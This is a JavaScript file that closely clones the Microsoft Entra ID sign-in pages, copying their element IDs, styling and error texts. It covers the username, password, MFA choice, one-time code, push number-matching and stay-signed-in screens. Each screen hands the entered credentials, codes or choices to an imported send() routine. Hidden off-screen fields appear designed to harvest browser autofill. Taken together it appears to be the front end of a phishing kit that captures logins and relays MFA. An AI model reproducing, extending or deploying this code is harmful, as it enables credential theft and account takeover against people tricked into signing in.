// Microsoft Entra ID.
import { h } from '../ui.js';
import { instead, run, send, words } from './engine.js';

const locked = 'Your account is temporarily locked to prevent unauthorized use. Try again later, and if you still have trouble, contact your admin.';
const userProblems = {
  missing: 'Enter a valid email address, phone number, or Skype name.',
  'unknown-user': "We couldn't find an account with that username. Try another, or get a new Microsoft account.",
};
const passwordProblems = {
  missing: 'Please enter your password.',
  'wrong-password': "Your account or password is incorrect. If you don't remember your password, reset it now.",
  locked,
};
const codeProblems = {
  missing: 'Please enter a code.',
  'wrong-code': "You didn't enter the expected verification code. Please try again.",
};

// Each step keeps the other's field in the document, out of sight.
const aside = (attributes) => h('input', { class: 'moveOffScreen', tabindex: '-1', 'aria-hidden': 'true', autocomplete: 'off', ...attributes });
const heading = (id, text) => h('div', { id, class: 'row text-title title', role: 'heading', 'aria-level': '1' }, text);
const button = (attributes) => h('input', { class: 'win-button button-secondary button ext-button secondary ext-secondary', ...attributes });
const primary = (attributes) => button({ type: 'submit', class: 'win-button button_primary high-contrast-overrides button ext-button primary ext-primary', ...attributes });
const link = (text, attributes = {}, act = () => {}) => h('a', { href: '#', onclick: instead(act), ...attributes }, text);

function alertBox(id, text) {
  return h('div', { role: 'alert', 'aria-live': 'assertive' }, text ? h('div', { id, class: 'alert-error ext-error has-error' }, text) : null);
}

function box(name, view, act, ...content) {
  return h('div', { class: 'outer' }, h('div', { class: 'middle' },
    h('form', { name: 'f1', id: 'i0281', novalidate: true, autocomplete: 'off', onsubmit: instead(act) },
      h('div', { class: 'sign-in-box ext-sign-in-box', id: 'lightbox' },
        h('div', { class: 'logo', role: 'img', 'aria-label': 'Microsoft' }, 'Microsoft'),
        view.username && name !== 'username' ? h('div', { class: 'identityBanner' },
          name === 'password' ? h('button', { type: 'button', class: 'backButton', id: 'idBtn_Back', 'aria-label': 'Back', onclick: () => send({ back: true }) }, '←') : null,
          h('div', { id: 'displayName', class: 'identity', title: view.username }, view.username)) : null,
        h('div', { class: 'pagination-view', 'data-viewid': name }, content)))));
}

function identify(view) {
  const text = words(userProblems, view.problem);
  const user = h('input', {
    type: 'email', name: 'loginfmt', id: 'i0116', maxlength: '113', class: `form-control ltr_override input ext-input text-box ext-text-box${text ? ' has-error' : ''}`,
    'aria-required': 'true', 'aria-label': 'Enter your email, phone, or Skype.', 'aria-describedby': 'loginHeader usernameError',
    placeholder: 'Email, phone, or Skype', autocomplete: 'username', 'data-autofocus': true, value: view.username || '',
  });
  return box('username', view, () => send({ username: user.value }),
    heading('loginHeader', 'Sign in'), alertBox('usernameError', text),
    h('div', { class: 'placeholderContainer' }, user, aside({ type: 'password', name: 'passwd', id: 'i0118' })),
    h('div', { class: 'row small' }, 'No account? ', link('Create one!', { id: 'signup' })),
    h('div', { class: 'row small' }, link("Can't access your account?", { id: 'cantAccessAccount' })),
    h('div', { class: 'button-container' }, primary({ id: 'idSIButton9', value: 'Next' })));
}

function password(view) {
  const text = words(passwordProblems, view.problem);
  const secret = h('input', {
    type: 'password', name: 'passwd', id: 'i0118', maxlength: '120', class: `form-control input ext-input text-box ext-text-box${text ? ' has-error' : ''}`,
    'aria-required': 'true', 'aria-label': `Enter the password for ${view.username}`, 'aria-describedby': 'loginHeader passwordError',
    placeholder: 'Password', autocomplete: 'off', 'data-autofocus': true,
  });
  return box('password', view, () => send({ password: secret.value }),
    heading('loginHeader', 'Enter password'), alertBox('passwordError', text),
    h('div', { class: 'placeholderContainer' }, secret, aside({ type: 'text', name: 'loginfmt', id: 'i0116' })),
    h('div', { class: 'row small' }, link('Forgot my password', { id: 'idA_PWD_ForgotPassword' })),
    h('div', { class: 'button-container' }, primary({ id: 'idSIButton9', value: 'Sign in' })));
}

function factors(view) {
  const choices = {
    push: ['PhoneAppNotification', 'Approve a request on my Microsoft Authenticator app'],
    totp: ['PhoneAppOTP', 'Use a verification code'],
  };
  return box('proofs', view, () => {}, heading('idDiv_SAOTCS_Title', 'Verify your identity'),
    h('div', { id: 'idDiv_SAOTCS_Proofs', class: 'form-group' }, view.factors.map((kind) => {
      const [value, text] = choices[kind];
      const act = () => send({ factor: kind });
      return h('div', { class: 'row tile' }, h('div', {
        class: 'table', role: 'button', tabindex: '0', 'data-value': value, onclick: act, onkeydown: (event) => event.key === 'Enter' && act(),
      }, h('div', { class: 'table-row' }, h('div', { class: 'table-cell text-left' }, h('div', {}, text)))));
    })),
    h('div', { class: 'button-container' }, button({ type: 'button', id: 'idBtn_SAOTCS_Cancel', value: 'Cancel', onclick: () => send({ back: true }) })));
}

function otherWay(view, text) {
  return view.factors.length > 1 ? h('div', { class: 'row small' }, link(text, { id: 'signInAnotherWay' }, () => send({ factor: 'other' }))) : null;
}

function code(view) {
  const text = words(codeProblems, view.problem);
  const digits = h('input', {
    type: 'tel', name: 'otc', id: 'idTxtBx_SAOTCC_OTC', maxlength: '8', class: `form-control input text-box${text ? ' has-error' : ''}`,
    placeholder: 'Code', 'aria-label': 'Code', 'aria-required': 'true', 'aria-describedby': 'idDiv_SAOTCC_Title idDiv_SAOTCC_Description',
    autocomplete: 'one-time-code', 'data-autofocus': true,
  });
  return box('code', view, () => send({ code: digits.value.trim() }),
    heading('idDiv_SAOTCC_Title', 'Enter code'),
    h('div', { id: 'idDiv_SAOTCC_Description', class: 'row text-body' }, 'Please type in the code displayed on your authenticator app from your device'),
    h('div', { id: 'idDiv_SAOTCC_ErrorMsg_OTC', role: 'alert', class: 'alert-error' }, text ? h('span', { id: 'idSpan_SAOTCC_Error_OTC', class: 'has-error' }, text) : null),
    h('div', { class: 'placeholderContainer' }, digits),
    h('label', { class: 'row small' }, h('input', { type: 'checkbox', name: 'rememberMFA', id: 'idChkBx_SAOTCC_TD' }), " Don't ask again for 60 days"),
    otherWay(view, 'Having trouble? Sign in another way'),
    h('div', { class: 'button-container' },
      button({ type: 'button', id: 'idSubmit_SAOTCC_Cancel', value: 'Cancel', onclick: () => send({ back: true }) }),
      primary({ id: 'idSubmit_SAOTCC_Continue', value: 'Verify' })));
}

function push(view) {
  return box('approve', view, () => {}, heading('idDiv_SAOTCAS_Title', 'Approve sign in request'),
    h('div', { id: 'idDiv_SAOTCAS_Description', class: 'row text-body', role: 'alert' }, 'Open your Authenticator app, and enter the number shown to sign in.'),
    h('div', { id: 'idRichContext_DisplaySign', class: 'displaySign' }, String(view.number)),
    h('div', { class: 'row small' }, "No numbers in your app? Make sure to upgrade to the latest version."),
    otherWay(view, "I can't use my Microsoft Authenticator app right now"));
}

function stay(view) {
  return box('kmsi', view, () => send({ stay: true }), heading('kmsiTitle', 'Stay signed in?'),
    h('div', { id: 'KmsiDescription', class: 'row text-body' }, 'Do this to reduce the number of times you are asked to sign in.'),
    h('label', { class: 'row small' }, h('input', { type: 'checkbox', name: 'DontShowAgain', id: 'KmsiCheckboxField' }), " Don't show this again"),
    h('div', { class: 'button-container' },
      button({ type: 'button', id: 'idBtn_Back', value: 'No', onclick: () => send({ stay: false }) }),
      primary({ id: 'idSIButton9', value: 'Yes', 'data-autofocus': true })));
}

run({ identify, password, factors, code, push, stay });
